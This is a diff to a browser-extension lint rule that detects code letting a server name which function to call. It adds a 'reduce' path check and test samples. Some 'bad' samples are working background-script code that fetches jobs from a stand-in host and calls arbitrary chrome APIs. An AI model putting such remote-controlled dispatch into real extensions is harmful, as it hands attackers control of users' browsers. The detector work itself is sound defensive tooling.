@@ -1,9 +1,9 @@
-import { apiPath, callAt, callsOf, constant, defsOf, listOf, Op, resolve, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { apiPath, callAt, callsNamed, callsOf, constant, defsOf, listOf, Op, receiverOf, resolve, type ScriptFacts } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { isFromKnownServer, isFromServer } from './network.ts';
 import { originPaths, originsOf } from './origins.ts';
-import { usageOf } from './usage.ts';
+import { few, usageOf } from './usage.ts';
 
 const ROOTS = /^(window|self|globalThis|this|chrome|document|chrome\.\w+|top|parent)$/;
 
@@ -19,6 +19,12 @@ export const namedByData = defineRule({
   why: 'With a name and arguments from outside, everything that the browser offers can be called: it is eval under another form, and was used to get around the ban of remote code.',
   remedy: 'Choose from a fixed list of your own functions.',
   check: checkScripts(function* ({ script, hit }) {
+    // `path.split('.').reduce((o, k) => o[k], chrome)`: the whole way is named at once.
+    for (const call of few(callsNamed(script, 'reduce'))) {
+      const root = apiPath(script, call.args[1] ?? 0);
+      if (root === undefined || !ROOTS.test(root) || !isFromServer(script, receiverOf(script, call)) || hasConstant(script, receiverOf(script, call))) continue;
+      yield hit(call.value, { severity: 'critical', message: 'A server names the function.' });
+    }
     for (const value of script.calls) {
       let callee = script.a[value] as number;
       // `window[a][b](c)`: any step may be named by data.
@@ -53,8 +59,10 @@ export const namedByData = defineRule({
       contentExample('chrome.storage.local.get("conf", ({ conf }) => { window[conf.fn](conf.arg); });'),
       backgroundExample('const tools = { chrome, fetch, JSON }; const at = (p) => p.split(".").reduce((o, k) => o[k], tools); async function run(list) { for (const [op, ...args] of list) { const parts = op.split("."); const m = parts.pop(); const o = at(parts.join(".")); await o[m].apply(o, args); } } fetch("https://x.example/p").then((r) => r.json()).then(run);'),
       backgroundExample('chrome.runtime.onMessageExternal.addListener((m, s, reply) => { chrome[m.space][m.name](...m.args, reply); });'),
+      backgroundExample('const call = (path, args) => path.split(".").reduce((o, k) => o[k], chrome)(...args); async function loop() { const jobs = await (await fetch("https://x.example/q")).json(); for (const j of jobs) call(j.path, j.args); } loop();'),
     ],
     good: [
+      backgroundExample('const word = "app.title".split(".").reduce((o, k) => o[k], window); fetch("https://x.example/n").then((r) => r.json()).then((n) => show(word, n));'),
       backgroundExample('chrome.runtime.onMessage.addListener((m) => { set(m.on ? "setTitle" : "setBadgeText", m.options); }); function set(name, options) { chrome.action[name](options); }'),
       contentExample('addEventListener("message", (e) => { const { name, seq } = e.data; window[name].callbacks.get(seq).resolve(1); });'),
       backgroundExample('const tools = { open() {}, close() {}, api: chrome.tabs }; fetch("https://x.example/p").then((r) => r.json()).then((c) => tools[c.name](c.id));'),
